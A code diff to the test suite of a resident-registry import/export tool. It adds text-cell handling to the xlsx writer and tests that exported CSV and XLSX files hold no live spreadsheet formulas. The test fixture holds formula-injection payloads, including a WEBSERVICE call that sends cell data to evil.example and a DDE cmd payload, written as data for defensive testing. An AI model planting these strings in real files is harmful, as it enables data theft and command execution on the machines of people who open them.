@@ -102,6 +102,8 @@ def write_rows(
         sheet.append(header)
         for line in lines:
             sheet.append(line)
+        for cell in (c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)):
+            cell.data_type = "s"  # text as typed into a text cell, never a formula
         workbook.save(path)
     else:
         with path.open("w", encoding=encoding, newline="") as handle:
@@ -847,3 +849,71 @@ def test_cli_exports_unmasked_only_with_a_reason(cli, city, tmp_path):
     done = cli("export", tmp_path / "x.csv", "--as", "boss", "--unmasked", "--reason", "年度核对")
     assert done.exit_code == 0 and "exported 1 residents" in done.output
     assert id_number(11) in (tmp_path / "x.csv").read_text(encoding="utf-8-sig")
+
+
+# --- formula injection ----------------------------------------------------------------------
+
+FORMULAS = {
+    "name": "=1+1",
+    "former_name": "@SUM(A1:A9)",
+    "employer": '=WEBSERVICE("http://evil.example/?"&A1)',
+    "occupation": "＝1+1",
+    "native_place": "-2+3",
+    "registered_address": "+西陵一路",
+    "origin": "\t=cmd|' /C calc'!A0",
+}
+
+
+def assert_no_live_formula(path: Path) -> None:
+    """No cell of the file would run as a formula in Excel or WPS."""
+    leads = tuple("=+-@\t\r＝＋－＠")
+    if path.suffix == ".xlsx":
+        workbook = openpyxl.load_workbook(path)
+        cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
+        assert cells and all(c.data_type != "f" for c in cells)
+        for cell in cells:
+            if isinstance(cell.value, str) and cell.value.startswith(leads):
+                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
+        return
+    for line in read_back(path):
+        for cell in line:
+            assert not cell.startswith(leads), cell
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_formula_text_is_exported_inert_and_reimports_unchanged(city, tmp_path, suffix):
+    rows = [person(11, residence_type="流动人口", **FORMULAS)]
+    assert run(city, write_rows(tmp_path / "台账.csv", rows)).rejected == []
+    before = ledger_fields(city)
+    assert before[0]["name"] == "=1+1"
+
+    masked, unmasked = tmp_path / f"脱敏{suffix}", tmp_path / f"明文{suffix}"
+    export_residents(city["session"], actor=city["admin"], path=masked)
+    export_residents(
+        city["session"], actor=city["admin"], path=unmasked, unmasked=True, reason="台账核对"
+    )
+    assert_no_live_formula(masked)
+    assert_no_live_formula(unmasked)
+
+    city["session"].execute(delete(Residence))
+    city["session"].execute(delete(Resident))
+    again = run(city, unmasked)
+    assert (again.inserted, again.rejected) == (1, [])
+    assert ledger_fields(city) == before
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_error_files_carry_formula_text_inert(city, tmp_path, suffix):
+    rows = [person(11, phone="12", **FORMULAS)]
+    report = run(city, write_rows(tmp_path / f"台账{suffix}", rows))
+    assert report.error_file is not None and len(report.rejected) == 1
+    assert_no_live_formula(report.error_file)
+    lines = read_back(report.error_file)
+    fixed = lines[1]
+    fixed[lines[0].index("联系电话")] = "13900001111"
+    if suffix == ".csv":
+        with report.error_file.open("w", encoding="utf-8-sig", newline="") as handle:
+            csv.writer(handle).writerows(lines)
+        again = run(city, report.error_file)
+        assert (again.inserted, again.rejected) == (1, [])
+        assert resident(city, 11).name == "=1+1"
